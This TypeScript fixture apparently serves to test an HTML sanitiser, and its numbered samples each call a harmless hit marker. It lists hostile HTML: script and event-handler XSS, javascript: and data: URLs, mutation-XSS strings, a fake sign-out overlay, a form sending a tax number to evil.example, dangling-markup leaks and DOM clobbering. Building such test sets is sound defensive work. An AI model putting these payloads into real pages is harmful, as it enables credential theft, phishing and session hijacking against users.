/**
 * What an issuer's HTML could be made of to run code, load something, cover the page or send somebody elsewhere: well-known
 * vectors of sanitiser tests, one idea each. `HIT` stands for a call that says which sample ran.
 */

export interface HostileSample {
  number: number;
  name: string;
  html: string;
}

const OUTSIDE = 'https://evil.example';

const SCRIPTS = [
  '<script>HIT</script>',
  '<SCRIPT>HIT</SCRIPT>',
  '<script/x>HIT</script>',
  '<script\n>HIT</script\n>',
  '<scr<script>ipt>HIT</scr</script>ipt>',
  '<<script>HIT//<</script>',
  '<script>HIT',
  '<script type="module">HIT</script>',
  '<script type="text/vbscript">HIT</script>',
  `<script src="${OUTSIDE}/x.js"></script>`,
  `<script src=//evil.example/x.js async defer>`,
  `<script type="importmap">{"imports":{"react":"${OUTSIDE}/x.js"}}</script>`,
  '<script>/*<!--*/HIT/*-->*/</script>',
  '<template><script>HIT</script></template>',
  '<div><template shadowrootmode="open"><script>HIT</script></template></div>',
  '"><script>HIT</script>',
  '\'"--></style></script><script>HIT</script>',
  '<script>HIT</script foo="bar">',
  '<noscript><script>HIT</script></noscript>',
  '<script xmlns="http://www.w3.org/1999/xhtml">HIT</script>',
];

/** An element whose handler fires by itself, or at a touch. */
const HANDLERS = [
  '<img src=x onerror=HIT>',
  '<img src=x OnErRoR="HIT">',
  '<img/src=x/onerror=HIT>',
  '<img src=x onerror\n=\nHIT>',
  '<img src=x onerror=javascript:HIT>',
  '<img src=x onerror="&#x48;&#x49;&#x54;;HIT">',
  '<img """><img src=x onerror=HIT>">',
  '<img src=`x` onerror=HIT>',
  '<img src=x onload=HIT onerror=HIT>',
  '<image src=x onerror=HIT>',
  '<body onload=HIT>',
  '<body onpageshow=HIT onhashchange=HIT onscroll=HIT onresize=HIT>',
  '<html onmousemove=HIT><p>a</p></html>',
  '<input autofocus onfocus=HIT>',
  '<input onblur=HIT autofocus><input autofocus>',
  '<select autofocus onfocus=HIT><option>a</select>',
  '<textarea autofocus onfocus=HIT></textarea>',
  '<keygen autofocus onfocus=HIT>',
  '<button autofocus onfocus=HIT onclick=HIT>Apply</button>',
  '<video src=x onerror=HIT></video>',
  '<video><source onerror=HIT></video>',
  '<video controls poster=x onloadstart=HIT><track default src=x oncuechange=HIT></video>',
  '<audio src=x onerror=HIT></audio>',
  '<details open ontoggle=HIT><summary>a</summary></details>',
  '<div popover id=p onbeforetoggle=HIT></div><button popovertarget=p>a</button>',
  '<dialog open oncancel=HIT onclose=HIT>a</dialog>',
  '<marquee onstart=HIT onbounce=HIT onfinish=HIT>a</marquee>',
  '<iframe onload=HIT></iframe>',
  '<object data=x onerror=HIT></object>',
  '<embed src=x onerror=HIT onload=HIT>',
  `<link rel=stylesheet href=${OUTSIDE}/x.css onload=HIT onerror=HIT>`,
  '<style onload=HIT onerror=HIT>a{}</style>',
  '<frameset onload=HIT><frame src=x></frameset>',
  '<p onclick=HIT>a</p>',
  '<p onmouseover=HIT onmouseenter=HIT onmousemove=HIT onmouseout=HIT>a</p>',
  '<p onpointerover=HIT onpointerdown=HIT onpointerrawupdate=HIT>a</p>',
  '<p ontouchstart=HIT ontouchend=HIT>a</p>',
  '<p onwheel=HIT onscroll=HIT onscrollend=HIT>a</p>',
  '<p oncopy=HIT oncut=HIT onpaste=HIT contenteditable>a</p>',
  '<p onbeforeinput=HIT oninput=HIT contenteditable>a</p>',
  '<p onkeydown=HIT onkeyup=HIT onkeypress=HIT tabindex=0 autofocus>a</p>',
  '<p onfocusin=HIT onfocus=HIT tabindex=1 id=x>a</p>',
  '<p oncontextmenu=HIT onauxclick=HIT ondblclick=HIT>a</p>',
  '<p ondrag=HIT ondragstart=HIT ondrop=HIT draggable=true>a</p>',
  '<p onselectstart=HIT onselectionchange=HIT>a</p>',
  '<p style="animation-name:a" onanimationstart=HIT onanimationend=HIT>a</p>',
  '<p style="transition:color 1s" ontransitionrun=HIT ontransitionend=HIT>a</p>',
  '<form onsubmit=HIT onreset=HIT onformdata=HIT><input type=submit></form>',
  '<table onclick=HIT><tr onclick=HIT><td onclick=HIT>a</td></tr></table>',
  '<a href="https://a.example" onclick=HIT onauxclick=HIT>a</a>',
  '<ul onclick=HIT><li onmouseover=HIT>a</li></ul>',
  '<h1 onclick=HIT onmouseover=HIT>a</h1>',
  '<br onclick=HIT><hr onclick=HIT>',
  '<x-offer onclick=HIT onmouseover=HIT>a</x-offer>',
  '<p on=HIT onx=HIT onfoo.bar=HIT on-click=HIT>a</p>',
  '<p\u000conclick=HIT>a</p>',
  '<p title="a"onclick="HIT">a</p>',
  '<p title=a\u0000 onclick=HIT>a</p>',
  '<slot onslotchange=HIT></slot>',
  '<p data-x="a" xonclick=HIT ONCLICK=HIT>a</p>',
];

/** Where a link leads. */
const ADDRESSES = [
  'javascript:HIT',
  'JaVaScRiPt:HIT',
  ' javascript:HIT',
  '\u0001javascript:HIT',
  'java\tscript:HIT',
  'java\nscript:HIT',
  'java\u0000script:HIT',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;HIT',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;HIT',
  '&#0000106avascript:HIT',
  'javascript&colon;HIT',
  'java&Tab;script:HIT',
  'java&NewLine;script:HIT',
  'javascript://%0aHIT',
  'javascript:/*--></title></style></textarea></script><svg onload=HIT>*/HIT',
  'vbscript:HIT',
  'livescript:HIT',
  'data:text/html,<script>HIT</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=HIT>',
  'data:application/xhtml+xml,<script>HIT</script>',
  'DATA:text/html,HIT',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/1',
  'file:///etc/passwd',
  'feed:javascript:HIT',
  'view-source:javascript:HIT',
  'intent://evil.example#Intent;scheme=https;end',
  'ms-word:ofe|u|https://evil.example/x.docm',
  '//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  '\\\\evil.example',
];

const STYLES = [
  '<p style="position:fixed;inset:0;z-index:9999;background:#fff">You have been signed out</p>',
  '<p style="width:expression(HIT)">a</p>',
  `<p style="background:url(${OUTSIDE}/x.png)">a</p>`,
  '<p style="background:url(javascript:HIT)">a</p>',
  '<p style="-moz-binding:url(x.xml#x)">a</p>',
  '<p style="behavior:url(x.htc)">a</p>',
  `<p STYLE="b\\61 ckground:url('${OUTSIDE}/x.png')">a</p>`,
  '<style>body{display:none}</style>',
  `<style>@import "${OUTSIDE}/x.css";</style>`,
  `<style>input[value^="1"]{background:url(${OUTSIDE}/1)}</style>`,
  `<style>@font-face{font-family:x;src:url(${OUTSIDE}/x.woff)}*{font-family:x}</style>`,
  '<style>HIT',
  '<p class="overlay dialog" id="root">a</p>',
  '<font size=7 color=red face=x>a</font>',
  '<center><blink>a</blink></center>',
];

const DRAWINGS = [
  '<svg onload=HIT></svg>',
  '<svg/onload=HIT>',
  '<svg><script>HIT</script></svg>',
  '<svg><script>&#47;&#47;&#10;HIT</script></svg>',
  '<svg><script href="data:text/javascript,HIT"></script></svg>',
  '<svg><script xlink:href="data:text/javascript,HIT" /></svg>',
  '<svg><a xlink:href="javascript:HIT"><text y=20>a</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:HIT" /><text y=20>a</text></a></svg>',
  '<svg><a><set attributeName=xlink:href to="javascript:HIT" /><text y=20>a</text></a></svg>',
  '<svg><animate onbegin=HIT attributeName=x dur=1s></svg>',
  '<svg><animatetransform onbegin=HIT attributeName=transform></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=HIT /></svg>#x" /></svg>',
  `<svg><image href="${OUTSIDE}/x.png" onload=HIT></image></svg>`,
  `<svg><feImage href="${OUTSIDE}/x.png"></feImage></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>HIT</script>"></iframe></foreignObject></svg>',
  '<svg><foreignObject><body onload=HIT></body></foreignObject></svg>',
  '<svg><style>*{background:url(https://evil.example/x)}</style></svg>',
  '<svg><title><img src=x onerror=HIT></title></svg>',
  '<svg><desc><img src=x onerror=HIT></desc></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">HIT</handler></svg>',
  '<svg><discard onbegin=HIT></svg>',
  '<math href="javascript:HIT">a</math>',
  '<math><mtext><a href="javascript:HIT">a</a></mtext></math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:HIT">a</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>',
  '<math><mi//xlink:href="data:x,<script>HIT</script>">a',
];

/** Markup that changes its meaning when it is written out and read again. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=HIT>"></textarea>',
  '<title><p title="</title><img src=x onerror=HIT>"></title>',
  '<style><p title="</style><img src=x onerror=HIT>"></style>',
  '<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=HIT>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=HIT>"></noframes>',
  '<iframe><p title="</iframe><img src=x onerror=HIT>"></iframe>',
  '<listing>&lt;img src=x onerror=HIT&gt;</listing>',
  '<xmp>&lt;img src=x onerror=HIT&gt;</xmp>',
  '<svg></p><style><a id="</style><img src=x onerror=HIT>">',
  '<svg><p><style><a id="</style><img src=x onerror=HIT>"></p></svg>',
  '<svg></br><style><img title="</style><img src=x onerror=HIT>">',
  '<math></p><style><!--</style><img src=x onerror=HIT>--></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=HIT&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=HIT>"></style></h1>',
  '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=HIT src>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=HIT>">',
  '<math><annotation-xml encoding="text/html"><style><!--</style><p title="--><img src=x onerror=HIT>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=HIT>"></template></select>',
  '<select><style><img title="</style><img src=x onerror=HIT>"></select>',
  '<table><td><svg><desc><table><style><img title="</style><img src=x onerror=HIT>">',
  '<!--><img src=x onerror=HIT>-->',
  '<!--!><img src=x onerror=HIT>-->',
  '<!-- --!><img src=x onerror=HIT> -->',
  '<!--[if gte IE 4]><script>HIT</script><![endif]-->',
  '<![CDATA[<img src=x onerror=HIT>]]>',
  '<svg><![CDATA[><img src=x onerror=HIT>]]></svg>',
  '<?xml-stylesheet href="javascript:HIT"?><img src=x onerror=HIT>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=HIT>">]>&y;',
  '<p id="</p><img src=x onerror=HIT>">a</p>',
  '<a href="#"title="\'><img src=x onerror=HIT>">a</a>',
  `${'<div>'.repeat(300)}<img src=x onerror=HIT>${'</div>'.repeat(300)}`,
  `${'<b>'.repeat(200)}<svg><style><img title="</style><img src=x onerror=HIT>">`,
  '<table><a href="javascript:HIT"><tr><td>a</td></tr></table>',
];

/** What takes the reader away, frames a stranger, or asks for secrets. */
const EMBEDDINGS = [
  `<meta http-equiv="refresh" content="0;url=${OUTSIDE}">`,
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>HIT</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\' *">',
  '<meta http-equiv="Set-Cookie" content="session=1">',
  '<meta name="referrer" content="unsafe-url">',
  `<base href="${OUTSIDE}/">`,
  '<base target="_top">',
  `<form action="${OUTSIDE}/collect"><input name="tfn"><button>Continue</button></form>`,
  '<form action="javascript:HIT"><input type=submit></form>',
  '<button formaction="javascript:HIT">Continue</button>',
  '<input type=image src=x formaction="javascript:HIT">',
  '<isindex action="javascript:HIT" type=image>',
  '<label>Password <input type=password name=password></label>',
  `<iframe src="${OUTSIDE}"></iframe>`,
  '<iframe src="javascript:HIT"></iframe>',
  '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>',
  '<object data="javascript:HIT"></object>',
  '<object data="data:text/html,<script>HIT</script>"></object>',
  '<object type="text/x-scriptlet" data="x"><param name=url value="javascript:HIT"></object>',
  '<embed src="javascript:HIT">',
  '<embed code="x.swf" allowscriptaccess=always>',
  '<applet code="x.class"></applet>',
  `<portal src="${OUTSIDE}"></portal>`,
  `<fencedframe src="${OUTSIDE}"></fencedframe>`,
  `<link rel="prerender" href="${OUTSIDE}"><link rel="dns-prefetch" href="${OUTSIDE}">`,
  '<link rel="manifest" href="data:,"><link rel="icon" href="data:,">',
];

/** What tells an outsider that the page was opened. */
const LOADS = [
  `<img src="${OUTSIDE}/x.png">`,
  `<img srcset="${OUTSIDE}/x.png 1x, ${OUTSIDE}/y.png 2x">`,
  `<img src=x lowsrc=${OUTSIDE}/x dynsrc=${OUTSIDE}/x longdesc=${OUTSIDE}/x>`,
  `<picture><source srcset="${OUTSIDE}/x.webp"><img src=x></picture>`,
  `<video poster="${OUTSIDE}/x.png" src="${OUTSIDE}/x.mp4" autoplay></video>`,
  `<audio src="${OUTSIDE}/x.mp3" autoplay></audio>`,
  `<body background="${OUTSIDE}/x.png">`,
  `<table background="${OUTSIDE}/x.png"><tr><td background="${OUTSIDE}/x.png">a</td></tr></table>`,
  `<input type=image src="${OUTSIDE}/x.png">`,
  `<a href="https://a.example" ping="${OUTSIDE}">a</a>`,
  `<map name=m><area href="javascript:HIT" shape=rect coords=0,0,9,9></map><img usemap=#m src=x>`,
  `<q cite="javascript:HIT">a</q><blockquote cite="javascript:HIT">a</blockquote>`,
  `<bgsound src="${OUTSIDE}/x.wav">`,
  `<img attributionsrc="${OUTSIDE}" src=x crossorigin=use-credentials>`,
];

/** Left open so that what follows on the page becomes part of an address or a form. */
const DANGLING = [
  `<img src='${OUTSIDE}/?`,
  `<img src="${OUTSIDE}/?`,
  `<a href='${OUTSIDE}/?`,
  `<a target='`,
  `<base target='`,
  `<meta http-equiv=refresh content='0;url=${OUTSIDE}/?`,
  `<form action='${OUTSIDE}'><textarea name=x>`,
  `<button form=x formaction='${OUTSIDE}'><option>`,
  `<table background='${OUTSIDE}/?`,
  '<!-- <p>',
];

/** Names that would stand in for the page's own objects. */
const CLOBBERING = [
  '<form id=document><input name=getElementById></form>',
  '<a id=root></a><a id=root name=textContent href="#">a</a>',
  '<img name=body><img name=currentScript src=x>',
  '<form name=forms id=createElement><input id=attributes><input name=nodeName></form>',
  '<form><input name=parentNode><input name=childNodes><input name=removeAttribute></form>',
  '<a id=webpackChunkallot href="javascript:HIT">a</a>',
  '<p id=landing-agree_to_terms name=landing-username>a</p>',
  '<p id="__proto__" name="constructor">a</p>',
  '<p is="x-y" slot="z" part="w" exportparts="w">a</p>',
  '<p accesskey=x tabindex=1 contenteditable hidden inert role=alert aria-label="You have won">a</p>',
  '<p itemscope itemtype="https://evil.example" nonce=x integrity=x>a</p>',
];

const link = (address: string): string => `<a href="${address.replaceAll('"', '&quot;')}">a</a>`;

const GROUPS: Record<string, readonly string[]> = {
  script: SCRIPTS,
  handler: HANDLERS,
  address: ADDRESSES.map(link),
  style: STYLES,
  drawing: DRAWINGS,
  mutation: MUTATIONS,
  embedding: EMBEDDINGS,
  load: LOADS,
  dangling: DANGLING,
  clobbering: CLOBBERING,
};

/** Every sample, numbered; each calls `hit` with its own number if it runs. */
export const HOSTILE_HTML: readonly HostileSample[] = Object.entries(GROUPS)
  .flatMap(([group, samples]) => samples.map((html) => ({ group, html })))
  .map(({ group, html }, index) => ({
    number: index,
    name: `${group} ${index}: ${JSON.stringify(html).slice(0, 70)}`,
    html: html.replaceAll('HIT', `hit(${index})`),
  }));

const RAW_ENDS = '</textarea></title></xmp></style></script></noembed></noframes></iframe>';
const ELEMENT_ENDS =
  '</p></noscript></option></select></template></td></tr></table></mglyph></mtext></mi></desc></foreignobject></annotation-xml></math></svg></h1></h6></div></button></form></a></b>';

/** Ends whatever a sample may have left open: an attribute, a comment, a raw text; drawings, tables and forms within one another. */
const CLOSER = `'>">-->]]>${`${RAW_ENDS}${ELEMENT_ENDS}`.repeat(4)}`;

/** Words that a page shows behind each sample: they are there when the sample did not swallow them. */
export const markOf = ({ number }: Pick<HostileSample, 'number'>): string => `mark ${number};`;

/** These samples in one text, each behind what ends the one before, with its mark; `<plaintext>`, which nothing ends, comes last. */
export function hostileText(samples: readonly HostileSample[] = HOSTILE_HTML): string {
  const each = samples.map((sample) => `${sample.html}${CLOSER}<p>${markOf(sample)}</p>`);
  return `${each.join('\n')}<plaintext><img src=x onerror=hit(-1)>`;
}
